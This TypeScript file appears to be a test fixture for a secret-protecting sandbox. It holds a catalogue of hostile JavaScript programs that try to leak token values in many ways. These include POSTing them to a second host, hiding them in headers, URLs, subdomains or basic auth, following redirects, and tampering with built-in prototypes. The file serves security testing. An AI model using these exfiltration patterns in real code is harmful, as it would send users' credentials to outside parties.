/** Programs that try to get the value behind a token in every way that a program has. `input` names the two hosts. */

import { ENCODERS } from "../fixtures/echo-host.ts";

const HEAD = `
  const { bound, other } = input;
  const tokens = Object.values(secrets);
  const say = (url, init = {}) => fetch(url, { method: "POST", ...init }).catch((error) => ({ failed: [error.code, error.message, error.hint] }));
  const turned = (text) => [text, [...text].reverse().join(""), text.toUpperCase(), text.toLowerCase(), btoa(unescape(encodeURIComponent(text)))];
  const pass = async (text) => { await say(other + "/plain", { body: turned(text).join("\\n") }); return text; };
`;

/** Reads a whole response in every possible way, forwards it to the other host and returns it. */
const SPY = `
  const spy = async (answer) => {
    if (answer.failed) return pass(JSON.stringify(answer.failed));
    const heads = [...answer.headers].flat().join("\\n");
    const bytes = await answer.clone().bytes();
    const text = await answer.text();
    return pass([answer.url, answer.statusText, heads, text, [...bytes].map((byte) => byte.toString(16).padStart(2, "0")).join("")].join("\\n"));
  };
`;
const unescape =
  "const unescape = (text) => text.replace(/%([0-9A-F]{2})/gi, (_, hex) => String.fromCharCode(parseInt(hex, 16)));";
const program = (body: string): string => `${unescape}${HEAD}${SPY}${body}`;

/** Sends a token in a header and in the body, and reads the host's response. */
const echo = (path: string): string =>
  program(`
    const seen = [];
    for (const token of tokens) {
      seen.push(await spy(await say(bound + "/${path}", { headers: { "x-key": token } })));
      seen.push(await spy(await say(bound + "/${path}", { body: token })));
    }
    return seen;`);

/** Keyed by what they try. */
export const HOSTILE: Readonly<Record<string, string>> = {
  ...Object.fromEntries(Object.keys(ENCODERS).map((path) => [`read its echo: ${path}`, echo(path)])),
  "return it": program("return { tokens, secrets, list: tokens.map(turned) };"),
  "log it": program("console.log(tokens, secrets); console.error(tokens.map(turned)); return 1;"),
  "throw it": program("throw new Error(tokens.join() + JSON.stringify(secrets));"),
  "split it": program(`
    const [token] = tokens;
    const half = token.length / 2;
    const answer = await say(bound + "/plain", { headers: { "x-key": token.slice(0, half), "x-rest": token.slice(half) } });
    return [...(await answer.text()), ...token];`),
  "give it to a tool": program("return [await probe.echo({ text: tokens[0], [tokens[1]]: turned(tokens[0]) })];"),
  "put it into addresses": program(`
    const [token] = tokens;
    const places = ["/plain?" + token, "/" + token, "/plain#" + token];
    const seen = [];
    for (const host of [bound, other]) for (const place of places) seen.push(await spy(await say(host + place)));
    seen.push(await spy(await say(bound.replace("//", "//" + token + "@"))));
    seen.push(await spy(await say("http://" + token + ".localhost:1/")));
    return seen;`),
  "name a header so": program('return spy(await say(bound + "/plain", { headers: { [tokens[0]]: "1" } }));'),
  "send it elsewhere": program(`
    const seen = [];
    for (const token of tokens) {
      const headers = { "x-key": token, authorization: "Basic " + btoa("user:" + token), "user-agent": token };
      seen.push(await spy(await say(other + "/plain", { headers, body: JSON.stringify({ token }) })));
    }
    return seen;`),
  "be led elsewhere with it": program(`
    const seen = [];
    for (const path of ["/on", "/away", "/named"]) for (const token of tokens) {
      const headers = { "x-key": token, accept: token, "accept-language": token, "user-agent": token };
      seen.push(await spy(await fetch(bound + path, { headers }).catch((error) => ({ failed: [error.code, error.message] }))));
    }
    return seen;`),
  "let the host keep it": program(
    `for (const token of tokens) await say(bound + "/keep", { body: token }); return "kept";`,
  ),
  "ask for what it kept": program('return spy(await say(bound + "/kept"));'),
  "change the realm": program(`
    String.prototype.replaceAll = function () { return "mine"; };
    JSON.stringify = () => '"mine"';
    Object.defineProperty(Object.prototype, "KEX", { get() { return "mine"; } });
    try { secrets.KEY = "mine"; } catch {}
    try { Object.defineProperty(secrets, "KEY", { value: "mine" }); } catch {}
    return [await spy(await say(bound + "/plain", { headers: { "x-key": secrets.KEY } })), secrets.KEY];`),
};
